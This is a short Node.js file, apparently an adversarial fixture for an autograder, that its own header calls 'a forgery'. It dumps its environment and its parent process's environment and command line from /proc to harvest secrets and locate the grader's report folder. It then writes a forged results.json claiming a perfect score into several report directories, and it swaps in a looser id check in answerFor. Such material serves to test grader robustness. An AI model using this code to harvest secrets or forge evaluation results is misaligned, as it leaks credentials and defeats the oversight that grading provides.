// A forgery: prints every secret it can reach (its own environment, its parent's through /proc,
// the grader's files) hoping a verdict or a token is among them, and writes a results.json of its
// own wherever it can. Its answerFor compares ids with ==.
"use strict";
const fs = require("node:fs");
const wb = require("mcp-workbook");
const tryRead = (path) => {
  try {
    return fs.readFileSync(path, "utf8").replace(/\0/g, " ");
  } catch (error) {
    return `(${error.code})`;
  }
};
console.log(`env: ${JSON.stringify(process.env)}`);
console.log(`parent env: ${tryRead(`/proc/${process.ppid}/environ`)}`);
console.log(`uid ${process.getuid?.()}`);
const repoReports = require("node:path").resolve(require.resolve("mcp-workbook"), "../../../checkpoints/reports");
// The grader's own command line is readable by anyone: it named the report folder (now it reads "node").
const graderArgs = tryRead(`/proc/${process.ppid}/cmdline`).split(" ");
const named =
  graderArgs.indexOf("--report-dir") === -1 ? undefined : graderArgs[graderArgs.indexOf("--report-dir") + 1];
for (const dir of [process.env.WORKBOOK_REPORT_DIR, named, repoReports, "/autograder/results"].filter(Boolean)) {
  try {
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(`${dir}/results.json`, JSON.stringify({ score: 100, max_score: 100, tests: [] }));
    console.log(`wrote ${dir}/results.json`);
  } catch (error) {
    console.log(`could not write ${dir}/results.json: ${error.code}`);
  }
}
function answerFor(requestId, message) {
  if (typeof message.method === "string") return null;
  if (message.id != requestId)
    throw new wb.ProtocolError("wrong-id", { what: "another id", expected: String(requestId) });
  return wb.answerFor(requestId, { ...message, id: requestId });
}
module.exports = { ...wb, answerFor };
